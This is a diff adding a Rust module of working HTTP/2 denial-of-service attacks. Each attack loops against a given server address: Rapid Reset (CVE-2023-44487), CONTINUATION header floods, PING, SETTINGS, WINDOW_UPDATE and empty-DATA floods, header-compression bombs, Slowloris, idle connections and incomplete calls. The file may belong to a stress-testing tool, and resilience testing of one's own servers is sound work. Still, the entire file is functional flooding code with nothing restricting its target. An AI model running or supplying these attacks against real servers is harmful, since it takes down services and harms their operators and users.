@@ -1,0 +1,185 @@
+//! The attacks: each is a loop of one connection, until the server ends it or time is up.
+
+use std::{
+    io::{self, Read, Write},
+    net::{SocketAddr, TcpStream},
+    sync::atomic::{AtomicBool, AtomicU64, Ordering},
+    time::{Duration, Instant},
+};
+
+use super::frames::{
+    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
+    WINDOW_UPDATE, bomb, call, frame, greeting,
+};
+
+/// Octets that are written at a time.
+const PIECE: usize = 32 * 1024;
+/// A write that the server does not take for so long has failed.
+const STUCK: Duration = Duration::from_millis(500);
+/// Sockets of one thread that hold on to what they have.
+const HELD: usize = 500;
+
+/// What is done to the server.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Attack {
+    /// Streams are opened and reset at once (CVE-2023-44487).
+    RapidReset,
+    /// A header block never ends (CVE-2024-24549 and its like).
+    Continuation,
+    /// A stream of empty DATA frames.
+    EmptyData,
+    /// PINGs, whose answers nobody reads.
+    Ping,
+    /// SETTINGS, whose answers nobody reads.
+    Settings,
+    /// Windows that are opened by one octet each.
+    WindowUpdate,
+    /// Small header blocks that become large.
+    HeaderBomb,
+    /// Connections that say nothing whole.
+    Slowloris,
+    /// Connections that greet and then ask for nothing.
+    Idle,
+    /// Calls of which a whole message never comes.
+    SlowCalls,
+}
+
+impl Attack {
+    /// All of them.
+    pub const ALL: [Self; 10] = [
+        Self::RapidReset,
+        Self::Continuation,
+        Self::EmptyData,
+        Self::Ping,
+        Self::Settings,
+        Self::WindowUpdate,
+        Self::HeaderBomb,
+        Self::Slowloris,
+        Self::Idle,
+        Self::SlowCalls,
+    ];
+
+    /// Goes on until `stop`; counts connections and octets.
+    pub fn run(self, server: SocketAddr, stop: &AtomicBool, done: &Done) {
+        while !stop.load(Ordering::Relaxed) {
+            let _ = match self {
+                Self::Slowloris | Self::Idle => self.hold(server, stop, done),
+                _ => self.flood(server, stop, done),
+            };
+            // A server that lets nobody in is not asked in a tight loop.
+            std::thread::sleep(Duration::from_millis(1));
+        }
+    }
+
+    /// What comes before the flood.
+    fn opening(self) -> Vec<u8> {
+        let mut octets = greeting();
+        match self {
+            Self::Continuation => frame(&mut octets, HEADERS, 0, 1, &call()),
+            Self::EmptyData => frame(&mut octets, HEADERS, END_HEADERS, 1, &call()),
+            _ => {}
+        }
+        octets
+    }
+
+    /// A piece of the flood; `stream` is the next stream's number.
+    fn piece(self, stream: &mut u32) -> Vec<u8> {
+        let mut octets = Vec::with_capacity(PIECE + 1_024);
+        let mut next = || std::mem::replace(stream, stream.wrapping_add(2));
+        while octets.len() < PIECE {
+            match self {
+                Self::RapidReset => {
+                    let stream = next();
+                    frame(&mut octets, HEADERS, END_HEADERS | END_STREAM, stream, &call());
+                    frame(&mut octets, RST_STREAM, 0, stream, &CANCEL);
+                }
+                Self::Continuation => {
+                    // A literal that is not kept, name and value of one octet.
+                    let block = [0x00, 1, b'x', 1, b'y'].repeat(1_000);
+                    frame(&mut octets, CONTINUATION, 0, 1, &block);
+                }
+                Self::EmptyData => frame(&mut octets, DATA, 0, 1, &[]),
+                Self::Ping => frame(&mut octets, PING, 0, 0, &[7; 8]),
+                // INITIAL_WINDOW_SIZE, which has the server look at each stream.
+                Self::Settings => frame(&mut octets, SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
+                Self::WindowUpdate => frame(&mut octets, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
+                Self::HeaderBomb => {
+                    frame(&mut octets, HEADERS, END_HEADERS | END_STREAM, next(), &bomb(4_000));
+                }
+                Self::SlowCalls => {
+                    let stream = next();
+                    frame(&mut octets, HEADERS, END_HEADERS, stream, &call());
+                    frame(&mut octets, DATA, 0, stream, &[0, 0, 0, 255, 255, 0]);
+                }
+                Self::Slowloris | Self::Idle => break,
+            }
+        }
+        octets
+    }
+
+    fn flood(self, server: SocketAddr, stop: &AtomicBool, done: &Done) -> io::Result<()> {
+        let mut socket = connect(server, done)?;
+        socket.write_all(&self.opening())?;
+        let reads = !matches!(self, Self::Ping | Self::Settings);
+        let (mut stream, mut answers) = (1, vec![0; PIECE]);
+        while !stop.load(Ordering::Relaxed) {
+            let piece = self.piece(&mut stream);
+            socket.write_all(&piece)?;
+            done.octets.fetch_add(piece.len() as u64, Ordering::Relaxed);
+            if reads {
+                match socket.read(&mut answers) {
+                    Ok(0) => return Ok(()),
+                    Err(error) if error.kind() != io::ErrorKind::WouldBlock => return Err(error),
+                    _ => {}
+                }
+            }
+        }
+        Ok(())
+    }
+
+    /// Holds many connections open, each with a word now and then.
+    fn hold(self, server: SocketAddr, stop: &AtomicBool, done: &Done) -> io::Result<()> {
+        let mut held: Vec<TcpStream> = Vec::new();
+        let greeting = greeting();
+        let mut looked = Instant::now();
+        while !stop.load(Ordering::Relaxed) {
+            if held.len() < HELD {
+                let mut socket = connect(server, done)?;
+                let said = if self == Self::Idle { greeting.len() } else { 5 };
+                socket.write_all(&greeting[..said])?;
+                held.push(socket);
+            }
+            if looked.elapsed() > Duration::from_millis(200) {
+                looked = Instant::now();
+                held.retain(|socket| !is_closed(socket));
+                done.held.fetch_max(held.len() as u64, Ordering::Relaxed);
+            }
+        }
+        Ok(())
+    }
+}
+
+/// What an attack has done.
+#[derive(Debug, Default)]
+pub struct Done {
+    pub connections: AtomicU64,
+    pub octets: AtomicU64,
+    /// Connections of one thread that were open at once, at the most.
+    pub held: AtomicU64,
+}
+
+fn connect(server: SocketAddr, done: &Done) -> io::Result<TcpStream> {
+    let socket = TcpStream::connect_timeout(&server, STUCK)?;
+    done.connections.fetch_add(1, Ordering::Relaxed);
+    socket.set_write_timeout(Some(STUCK))?;
+    socket.set_read_timeout(Some(Duration::from_millis(1)))?;
+    Ok(socket)
+}
+
+fn is_closed(mut socket: &TcpStream) -> bool {
+    match socket.read(&mut [0; 4_096]) {
+        Ok(0) => true,
+        Err(error) => error.kind() != io::ErrorKind::WouldBlock,
+        Ok(_) => false,
+    }
+}
